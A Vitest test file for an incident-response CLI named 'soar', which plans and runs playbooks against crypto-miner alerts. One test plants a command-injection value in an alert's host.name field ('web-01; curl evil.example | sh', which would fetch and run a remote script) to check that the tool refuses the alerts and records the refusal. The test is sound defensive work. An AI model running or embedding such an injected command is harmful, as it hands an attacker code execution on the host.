import { execFile, spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import { ACTIONS } from '../../../src/actions/registry.js';
import { parseAlerts } from '../../../src/alert/intake.js';
import { DEFAULT_PLAYBOOK } from '../../../src/cli/defaults.js';
import { defaultConfig } from '../../../src/config/config.js';
import { Runtime } from '../../../src/engine/runtime.js';
import { buildPlan } from '../../../src/plan/plan.js';
import { loadPlaybook } from '../../../src/playbook/load.js';
import { MIGRATIONS } from '../../../src/store/migrations.js';
import { SqliteStore } from '../../../src/store/sqlite-store.js';
import { exampleHit, setField, sourceOf } from '../alert/example.js';
import { noHosts } from '../server/service.js';
import { storeWithRuns } from '../../support/store-with-runs.js';

/** The real `soar` executable, as a user runs it (built by `npm test` before vitest starts). */
const SOAR = fileURLToPath(new URL('../../../bin/soar.js', import.meta.url));
const ALERTS = fileURLToPath(new URL('../../../../shared/fixtures/alerts/', import.meta.url));
const BROKEN = fileURLToPath(new URL('../playbook/fixtures/broken/', import.meta.url));

async function soar(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await promisify(execFile)(process.execPath, [SOAR, ...args], { env: { ...process.env, SOAR_CONFIG: '' } });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const failed = error as { code: number; stdout: string; stderr: string };
    return { code: failed.code, stdout: failed.stdout, stderr: failed.stderr };
  }
}

describe('soar CLI', () => {
  it('plan prints all six steps with their commands for the example alert', async () => {
    const { code, stdout } = await soar('plan', '--alert', `${ALERTS}example-c3pool-miner.hit.json`);
    expect(code).toBe(0);
    for (const [index, step] of ['triage', 'isolate', 'kill', 'remove', 'scan', 'escalate'].entries()) {
      expect(stdout).toContain(`\n${index + 1}. ${step} [`);
    }
    expect(stdout).toContain('$ timeout -k 5 120 sh -c <triage.sh> soar-triage c3pool_miner.service /tmp/c3pool_miner.service 4421');
    expect(stdout).toContain('soar-kill-process c3pool_miner.service KILL disable');
  });

  it('plan --json gives argv arrays and the exact line ssh would send', async () => {
    const { code, stdout } = await soar('plan', '--json', '--alert', `${ALERTS}example-c3pool-miner.hit.json`);
    expect(code).toBe(0);
    const plan = JSON.parse(stdout) as { steps: Array<{ id: string; commands: Array<{ where: string; line?: string; command?: { argv: string[] } }> }> };
    const triage = plan.steps[0]!.commands[0]!;
    expect(triage.command!.argv.slice(3)).toEqual(['soar-triage', 'c3pool_miner.service', '/tmp/c3pool_miner.service', '4421']);
    expect(triage.line).toMatch(/^timeout -k 5 120 sh -c '# soar remote prelude/);
  });

  it.each([
    ['kibana-8.1-linux-host-other-rule.hit.json', /rule "threat-match-rule"\) is not one this playbook takes/],
    ['kibana-8.5-file-event-windows.hit.json', /host\.os\.type "windows" is not linux/],
  ])('plan refuses %s with the reason (exit 3)', async (file, reason) => {
    const { code, stdout, stderr } = await soar('plan', '--alert', `${ALERTS}${file}`);
    expect(code).toBe(3);
    expect(stdout).toBe('');
    expect(stderr).toMatch(reason);
    const json = await soar('plan', '--json', '--alert', `${ALERTS}${file}`);
    expect(JSON.parse(json.stdout)).toMatchObject({ error: { code: 'ALERT_NOT_TAKEN' } });
  });

  it('validate accepts the bundled playbook and locates errors in a broken one', async () => {
    expect((await soar('validate', 'playbooks/mining-service.yaml')).code).toBe(0);
    const broken = await soar('validate', `${BROKEN}unknown-action.yaml`);
    expect(broken.code).toBe(3);
    expect(broken.stdout).toMatch(/^FAIL {2}\S+unknown-action\.yaml:\d+:\d+: steps\[\d\]\.action: /);
  });

  it('schema prints a JSON Schema that types each step by its action', async () => {
    const { code, stdout } = await soar('schema');
    expect(code).toBe(0);
    expect(stdout).toContain('kill-process');
    expect(JSON.parse(stdout)).toHaveProperty('$schema');
  });

  it('run refuses a file of alerts whole when one is refused: no run starts, the refusal is audited', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'soar-cli-'));
    const good = exampleHit();
    const bad = exampleHit();
    bad._id = 'a'.repeat(64);
    setField(sourceOf(bad), 'kibana.alert.uuid', bad._id);
    setField(sourceOf(bad), 'host.name', 'web-01; curl evil.example | sh');
    writeFileSync(join(dir, 'alerts.json'), JSON.stringify({ hits: { hits: [good, bad] } }));
    // The good alert's host is in the inventory (where nothing listens): acted on first, it would get a run.
    writeFileSync(join(dir, 'known_hosts'), '');
    writeFileSync(join(dir, 'soar.yaml'), 'known_hosts: known_hosts\nhosts:\n  web-01: { address: 127.0.0.1, port: 1, user: root, identity_file: none }\n');
    const store = join(dir, 'soar.db');
    const run = await soar('run', '--alert', join(dir, 'alerts.json'), '--config', join(dir, 'soar.yaml'), '--store', store, '--json');
    expect(run.code).toBe(3);
    expect(run.stdout).toContain('host.name');
    const status = await soar('status', '--store', store, '--json');
    expect(JSON.parse(status.stdout)).toEqual([]);
    const trail = new SqliteStore(store);
    expect(trail.auditRecords().map((record) => record.kind)).toEqual(['input.refused']);
    trail.close();
  });

  it('a command that logs nothing starts without loading the log library', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'soar-cli-'));
    const probe = join(dir, 'probe.cjs');
    writeFileSync(probe, "process.on('exit', () => process.stderr.write(`pino loaded: ${Object.keys(require.cache).some((file) => file.includes('/node_modules/pino/'))}\\n`));\n");
    const { stdout, stderr } = await promisify(execFile)(process.execPath, ['--require', probe, SOAR, 'status', '--store', join(dir, 'soar.db'), '--json'], { env: { ...process.env, SOAR_CONFIG: '' } });
    expect(JSON.parse(stdout)).toEqual([]);
    expect(stderr).toContain('pino loaded: false');
  });

  it('a store another soar process is creating is waited for, not migrated twice', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'soar-cli-')), 'soar.db');
    // The other process: it made the file and holds the write lock while it creates the tables.
    const other = new Database(file);
    other.pragma('journal_mode = WAL');
    other.exec('BEGIN IMMEDIATE');
    const status = soar('status', '--store', file, '--json');
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    MIGRATIONS.forEach((sql) => other.exec(sql));
    other.pragma(`user_version = ${MIGRATIONS.length}`);
    other.exec('COMMIT');
    other.close();
    expect(await status).toMatchObject({ code: 0, stdout: '[]\n' });
  });

  it('status RUN says which process drives the run, and when that process has stopped', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'soar-cli-')), 'soar.db');
    const store = new SqliteStore(file);
    const playbook = await loadPlaybook(DEFAULT_PLAYBOOK, ACTIONS);
    const plan = buildPlan({ alert: parseAlerts(exampleHit())[0]!, playbook, config: defaultConfig(), actions: ACTIONS });
    new Runtime({ store, config: defaultConfig(), actions: ACTIONS, hosts: noHosts }).start(plan, playbook);
    const driveBy = (pid: number) => store.takeLease({ run: plan.runId, owner: `test-${pid}`, hostname: hostname(), pid, expiresAt: Date.now() + 30_000 }, () => true);
    try {
      expect(JSON.parse((await soar('status', plan.runId, '--store', file, '--json')).stdout).driver).toBeNull();
      driveBy(process.pid);
      const live = await soar('status', plan.runId, '--store', file);
      expect(live.stdout).toContain(`  driven by pid ${process.pid} on ${hostname()} (its lease runs to `);
      const gone = spawnSync('true').pid;
      driveBy(gone);
      const stopped = await soar('status', plan.runId, '--store', file);
      expect(stopped.stdout).toContain(`  was driven by pid ${gone} on ${hostname()}, which stopped (its process is gone): the next soar resume or soar serve takes it over`);
      expect(JSON.parse((await soar('status', plan.runId, '--store', file, '--json')).stdout).driver).toEqual({ hostname: hostname(), pid: gone, until: expect.any(String), lapsed: 'process gone' });
    } finally {
      store.close();
    }
  });

  it('explains usage mistakes with exit 2, never a stack trace', async () => {
    const unknown = await soar('plan', '--alert');
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('Usage: soar plan');
    expect((await soar('frobnicate')).code).toBe(2);
    const missing = await soar('plan', '--alert', '/nonexistent.json');
    expect(missing.code).toBe(1);
    expect(missing.stderr).not.toMatch(/\n\s+at /);
    for (const parallel of ['0', '1.5', 'many']) {
      const refused = await soar('run', '--alert', `${ALERTS}example-c3pool-miner.hit.json`, '--parallel', parallel);
      expect(refused.code).toBe(2);
      expect(refused.stderr).toContain('--parallel takes a whole number from 1 to 1024');
    }
    for (const [args, says] of [
      [['--status', 'finished'], '--status takes one of active, done, aborted, failed'],
      [['--limit', '0'], '--limit takes a whole number from 1'],
      [['run-0000000000000000', '--limit', '2'], '--status and --limit list runs'],
    ] as const) {
      const refused = await soar('status', ...args);
      expect(refused).toMatchObject({ code: 2, stderr: expect.stringContaining(says) });
    }
  });

  it('status lists the newest runs it is asked for, in one state, and says how many it left out', async () => {
    const { store, runIds } = await storeWithRuns(3);
    store.transaction(() => store.saveSnapshot(runIds[0]!, { ...store.run(runIds[0]!)!.snapshot, value: 'done', status: 'done' }, 'done'));
    store.close();
    const listed = await soar('status', '--store', store.file, '--status', 'active', '--limit', '1');
    expect(listed.code).toBe(0);
    expect(listed.stdout.trim().split('\n')).toEqual([expect.stringMatching(new RegExp(`^${runIds[2]}  active  web-002  c3pool_miner.service  at `)), '(the newest 1 of 2 active runs)']);
    const json = JSON.parse((await soar('status', '--store', store.file, '--json')).stdout) as Array<{ run: string; status: string }>;
    expect(json.map((run) => [run.run, run.status])).toEqual([[runIds[0], 'done'], [runIds[1], 'active'], [runIds[2], 'active']]);
    expect((await soar('status', '--store', store.file, '--status', 'failed')).stdout).toBe('no failed runs in the store\n');
  });
});
